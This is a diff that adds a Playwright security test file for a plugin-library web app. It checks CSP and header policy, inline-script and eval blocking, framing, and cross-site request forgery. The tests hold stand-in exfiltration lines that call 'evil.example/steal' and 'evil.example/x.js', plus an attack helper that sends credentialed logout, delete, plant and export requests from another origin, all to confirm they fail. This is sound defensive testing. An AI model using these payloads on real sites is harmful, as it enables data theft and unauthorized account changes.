@@ -1,0 +1,292 @@
+import { createServer, type Server } from 'node:http'
+import type { Page } from '@playwright/test'
+import { aBundle } from './parts/a-bundle.ts'
+import { aPicture } from './parts/a-picture.ts'
+import type { Producer } from './parts/a-producer.ts'
+import { drop } from './parts/drop.ts'
+import { dropZone } from './parts/drop-zone.ts'
+import { furnish, PLACES, PUBLIC_PLACES } from './parts/places.ts'
+import { expect, story } from './parts/story.ts'
+
+/** What a browser may do with our pages; the nonce of a style stands for itself. */
+const POLICY = [
+  "default-src 'none'",
+  "script-src 'self' 'nonce-'",
+  "style-src 'self' 'nonce-'",
+  "img-src 'self' blob: data:",
+  "font-src 'self'",
+  "connect-src 'self'",
+  "manifest-src 'self'",
+  "form-action 'self'",
+  "base-uri 'none'",
+  "object-src 'none'",
+  "frame-ancestors 'none'",
+  "require-trusted-types-for 'script'",
+].join(';')
+
+story(
+  'every page carries the policy to the letter, and the nonce is another one each time',
+  async ({ page }) => {
+    const nonces = new Set<string>()
+    for (const path of [
+      '/',
+      '/auth',
+      '/plugins',
+      '/settings',
+      '/nowhere',
+      '/api/server',
+      '/api/nothing',
+      '/theme.js',
+    ]) {
+      const headers = (await page.request.get(path)).headers()
+      const policy = headers['content-security-policy'] ?? ''
+      expect(policy.replaceAll(/nonce-[^']+/g, 'nonce-'), path).toBe(POLICY)
+      expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*|https?:/)
+      nonces.add(/nonce-([^']+)/.exec(policy)?.[1] ?? '')
+      expect(headers, path).toMatchObject({
+        'x-content-type-options': 'nosniff',
+        'x-frame-options': 'SAMEORIGIN',
+        'referrer-policy': 'same-origin',
+        'cross-origin-opener-policy': 'same-origin',
+        'cross-origin-resource-policy': 'same-origin',
+      })
+    }
+    expect(nonces.size).toBe(8)
+  },
+)
+
+/** Notes every violation in the page itself, as a report would carry it. */
+async function watchPolicy(page: Page) {
+  const violations: string[] = []
+  await page.exposeFunction('noteViolation', (text: string) => violations.push(text))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) =>
+      Reflect.get(
+        window,
+        'noteViolation',
+      )(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile} ${event.sample}`),
+    )
+  })
+  return violations
+}
+
+story(
+  'no page and no dialog of the built product breaks the policy',
+  async ({ page, producer, folderOf }) => {
+    story.slow()
+    const violations = await watchPolicy(page)
+    await furnish(producer)
+    for (const place of PLACES) await place.open(page)
+    const folder = await folderOf({ 'Fresh.vst3': aBundle({ name: 'Fresh' }) })
+    await page.goto('/plugins?add=1')
+    await drop(dropZone(page), [folder])
+    await expect(page.getByText('Showing 5 plugins')).toBeVisible()
+    await page.goto('/')
+    await page.getByRole('button', { name: 'Sign out' }).click()
+    for (const place of PUBLIC_PLACES) await place.open(page)
+    await page.setViewportSize({ width: 390, height: 844 })
+    await page.goto('/auth')
+    await expect(page.getByRole('button', { name: 'Login', exact: true })).toBeVisible()
+    expect(violations).toEqual([])
+  },
+)
+
+story('the policy holds: what a page must not do is stopped and reported', async ({ page, complaints }) => {
+  const violations = await watchPolicy(page)
+  await page.goto('/auth')
+  const attempts = await page.evaluate(async () => {
+    const done: string[] = []
+    const style = document.createElement('style')
+    style.textContent = 'body { opacity: 0 }'
+    document.body.append(style)
+    const elsewhere = 'https://evil.example/x.js'
+    await import(elsewhere).then(
+      () => done.push('script'),
+      () => {},
+    )
+    await fetch('https://evil.example/steal').then(
+      () => done.push('fetch'),
+      () => {},
+    )
+    try {
+      document.body.setAttribute('onclick', 'window.ran = 1')
+      document.body.click()
+      if (Reflect.get(window, 'ran')) done.push('handler')
+    } catch {}
+    try {
+      document.createElement('div').innerHTML = '<b>x</b>'
+      done.push('innerHTML')
+    } catch {}
+    try {
+      Reflect.get(window, 'eval')('1')
+      done.push('eval')
+    } catch {}
+    if (getComputedStyle(document.body).opacity === '0') done.push('style')
+    return done
+  })
+  expect(attempts).toEqual([])
+  await expect
+    .poll(() => [...new Set(violations.map((text) => text.split(' ')[0]))].sort())
+    .toEqual(
+      expect.arrayContaining([
+        'connect-src',
+        'require-trusted-types-for',
+        'script-src-attr',
+        'script-src-elem',
+      ]),
+    )
+  complaints.length = 0
+})
+
+/** A site of somebody else, on another port. */
+async function foreignSite() {
+  const site: Server = createServer((_, answer) => {
+    answer.setHeader('content-type', 'text/html')
+    answer.end('<!doctype html><title>Elsewhere</title><body>')
+  })
+  await new Promise<void>((ready) => site.listen(0, '127.0.0.1', ready))
+  const address = site.address()
+  if (typeof address !== 'object' || address === null) throw new Error('The other site has no port.')
+  return { port: address.port, stop: () => new Promise((stopped) => site.close(stopped)) }
+}
+
+type Attack = { url: string; pluginId: string }
+
+/** Everything a page elsewhere can make this browser send, with the cookies that the browser adds. */
+async function attack(page: Page, { url, pluginId }: Attack) {
+  return page.evaluate(
+    async ({ url, pluginId }) => {
+      const read: string[] = []
+      const plugin = JSON.stringify({ name: 'Planted', format: 'VST3', path: 'planted' })
+      const requests: [string, string, string?, string?][] = [
+        ['POST', '/api/auth/logout'],
+        ['POST', '/api/plugins', plugin, 'application/json'],
+        ['POST', '/api/plugins', plugin, 'text/plain'],
+        ['POST', '/api/plugins', `name=Planted&format=VST3`, 'application/x-www-form-urlencoded'],
+        ['POST', '/api/plugins/bulk-import', `{"plugins":[${plugin}]}`, 'text/plain'],
+        ['PATCH', `/api/plugins/${pluginId}`, '{"isFavorite":true}', 'application/json'],
+        ['PATCH', '/api/auth/me', '{"displayName":"Planted","email":"a@b.co"}', 'application/json'],
+        ['DELETE', `/api/plugins/${pluginId}`],
+        ['DELETE', '/api/plugins'],
+        ['POST', '/api/auth/pro-request'],
+        ['GET', '/api/plugins'],
+        ['GET', '/api/auth/me'],
+        ['GET', '/api/account/export'],
+      ]
+      for (const mode of ['cors', 'no-cors'] as const) {
+        for (const [method, path, body, type] of requests) {
+          const options = { method, mode, credentials: 'include' as const }
+          await fetch(`${url}${path}`, {
+            ...options,
+            ...(body && { body, headers: { 'content-type': type ?? '' } }),
+          }).then(
+            async (answer) => {
+              const text = answer.type === 'opaque' ? '' : await answer.text()
+              if (text) read.push(`${method} ${path} ${text.slice(0, 40)}`)
+            },
+            () => {},
+          )
+        }
+      }
+      navigator.sendBeacon(`${url}/api/auth/logout`, '')
+      navigator.sendBeacon(`${url}/api/plugins`, new Blob([plugin], { type: 'text/plain' }))
+
+      const submit = (path: string, enctype: string, name: string, value: string) =>
+        new Promise<void>((loaded) => {
+          const frame = document.createElement('iframe')
+          frame.name = `frame-${Math.random()}`
+          frame.onload = () => loaded()
+          const form = document.createElement('form')
+          Object.assign(form, { action: `${url}${path}`, method: 'post', enctype, target: frame.name })
+          const field = Object.assign(document.createElement('input'), { name, value })
+          form.append(field)
+          document.body.append(frame, form)
+          form.submit()
+          setTimeout(loaded, 1500)
+        })
+      await submit('/api/auth/logout', 'application/x-www-form-urlencoded', 'a', 'b')
+      await submit('/api/plugins', 'text/plain', '{"name":"Planted","format":"VST3","path":"', '"}')
+      await submit('/api/plugins', 'application/x-www-form-urlencoded', 'name', 'Planted')
+      await submit(`/api/plugins/${pluginId}/screenshot`, 'multipart/form-data', 'screenshot', 'x')
+      const socket = await new Promise<string>((done) => {
+        const picture = new Image()
+        picture.onload = () => done('picture loaded')
+        picture.onerror = () => done('')
+        picture.src = `${url}/assets/logo.png?${Math.random()}`
+        setTimeout(() => done(''), 1500)
+      })
+      return { read, socket }
+    },
+    { url, pluginId },
+  )
+}
+
+for (const host of ['localhost', '127.0.0.1']) {
+  story(
+    `a page on another port of ${host} changes nothing and reads nothing`,
+    async ({ page, producer, server, complaints }) => {
+      await furnish(producer)
+      const before = await everythingOf(producer)
+      const plugins = before.plugins
+      const victim = plugins.find(({ screenshot }) => screenshot === null)
+      if (!victim) throw new Error('There is a plugin without a picture.')
+      const elsewhere = await foreignSite()
+      try {
+        await page.goto(`http://${host}:${elsewhere.port}/`)
+        const { read, socket } = await attack(page, { url: server.url, pluginId: victim.id })
+        expect({ read, socket }).toEqual({ read: [], socket: '' })
+        expect(await everythingOf(producer)).toEqual(before)
+      } finally {
+        await elsewhere.stop()
+        complaints.length = 0
+      }
+    },
+  )
+}
+
+story('no other page can show ours in a frame', async ({ page, producer, server, complaints }) => {
+  await furnish(producer)
+  const elsewhere = await foreignSite()
+  await page.goto(`http://localhost:${elsewhere.port}/`)
+  await page.evaluate((url) => {
+    const frame = document.createElement('iframe')
+    frame.src = `${url}/plugins`
+    document.body.append(frame)
+  }, server.url)
+  await page.waitForTimeout(1500)
+  expect(page.frames().filter((frame) => frame.url().startsWith(server.url))).toEqual([])
+  expect(complaints.splice(0).join()).toContain('frame-ancestors')
+  await elsewhere.stop()
+})
+
+type Everything = {
+  user: unknown
+  plugins: { id: string; screenshot: string | null }[]
+  preferences: unknown
+}
+
+async function everythingOf(producer: Producer): Promise<Everything> {
+  return {
+    user: await producer.call('GET', '/api/auth/me'),
+    // The answer of this call is the library, as the contract says.
+    plugins: (await producer.call('GET', '/api/plugins')) as Everything['plugins'],
+    preferences: await producer.call('GET', '/api/notifications/preferences'),
+  }
+}
+
+story('a picture that somebody uploads is nothing but a picture', async ({ page, producer }) => {
+  const { id } = await producer.owns({ name: 'Tape' })
+  // The answer of this call is the plugin, as the contract says.
+  const { screenshot } = (await producer.upload(
+    `/api/plugins/${id}/screenshot`,
+    'screenshot',
+    await aPicture(),
+  )) as { screenshot: string }
+  const answer = await page.request.get(screenshot)
+  expect(answer.headers()).toMatchObject({
+    'content-type': 'image/webp',
+    'x-content-type-options': 'nosniff',
+  })
+  await page.context().clearCookies()
+  expect((await page.request.get(screenshot)).status()).toBe(401)
+})
